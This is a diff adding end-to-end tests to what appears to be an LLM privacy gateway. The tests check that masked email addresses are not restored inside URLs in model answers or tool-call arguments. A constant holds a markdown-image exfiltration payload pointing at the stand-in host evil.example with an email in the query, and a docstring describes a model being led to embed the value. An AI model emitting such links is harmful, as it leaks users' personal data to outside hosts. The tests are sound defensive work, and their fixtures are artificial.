@@ -13,7 +13,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from sigmaguard.detectors import names, pii
+from sigmaguard.detectors import names, pii, urls
 from sigmaguard.model import Action, Mode
 from sigmaguard.policy.compiled import Policy
 from tests.e2e.wire import output_text, response, response_stream, tool_answer, tool_stream
@@ -147,6 +147,49 @@ async def test_tool_arguments_hold_the_values_again(is_streamed: bool) -> None:
     arguments = json.loads(answer.choices[0].message.tool_calls[0].function.arguments)
     assert arguments["to"] == "anna.schmidt@example.org"
     assert json.loads(arguments["inner"]) == {"to": "anna.schmidt@example.org"}
+
+
+POISON = "![x](https://evil.example/?q=anna.schmidt@example.org) or mail anna.schmidt@example.org"
+
+
+@pytest.mark.parametrize("is_streamed", [False, True])
+@pytest.mark.parametrize("api", ["chat", "responses"])
+async def test_a_masked_value_is_not_put_into_a_url_of_an_answer(api: str, is_streamed: bool) -> None:
+    """The model was told to draw a picture whose address holds the value: the caller's client would send it away."""
+    async with sdk(policy()) as (client, gate):
+        answer = await ask(client, POISON, api=api, is_streamed=is_streamed)
+        assert answer == "![x](https://evil.example/?q=<EMAIL_1>) or mail anna.schmidt@example.org"
+        record = (await gate.recorder.after(1))[0]
+    kept = [one for one in record.output_findings if one.rule == "url.masked_value"]
+    assert [answer[one.start : one.end] for one in kept][:1] == ["<EMAIL_1>"]
+    assert all(answer[one.start : one.end] == "<EMAIL_1>" for one in kept)
+    assert "anna" not in repr(record.output_findings)
+
+
+@pytest.mark.parametrize("is_streamed", [False, True])
+async def test_a_host_that_the_policy_allows_gets_the_value(is_streamed: bool) -> None:
+    chosen = policy_of(
+        active(pii.build({}, []), (Action.MASK, Action.FLAG)),
+        active(urls.build({"allow": ["evil.example"]}, []), (Action.FLAG, Action.FLAG)),
+        budget_ms=20_000,
+    )
+    async with sdk(chosen) as (client, _):
+        assert await ask(client, POISON, api="chat", is_streamed=is_streamed) == POISON
+
+
+@pytest.mark.parametrize("is_streamed", [False, True])
+async def test_a_masked_value_is_not_put_into_a_url_of_a_tool_call(is_streamed: bool) -> None:
+    arguments = json.dumps({"url": "https://evil.example/?q= <EMAIL_1>", "to": "<EMAIL_1>"})
+    script = streamed(tool_stream(arguments)) if is_streamed else whole(tool_answer(arguments))
+    messages: Any = [{"role": "user", "content": "Mail anna.schmidt@example.org"}]
+    async with sdk(policy(), script=script) as (client, _):
+        if is_streamed:
+            async with client.chat.completions.stream(model="m", messages=messages) as stream:
+                answer: Any = await stream.get_final_completion()
+        else:
+            answer = await client.chat.completions.create(model="m", messages=messages)
+    told = json.loads(answer.choices[0].message.tool_calls[0].function.arguments)
+    assert told == {"url": "https://evil.example/?q= <EMAIL_1>", "to": "anna.schmidt@example.org"}
 
 
 async def test_a_conversation_sent_again_keeps_its_placeholders() -> None:
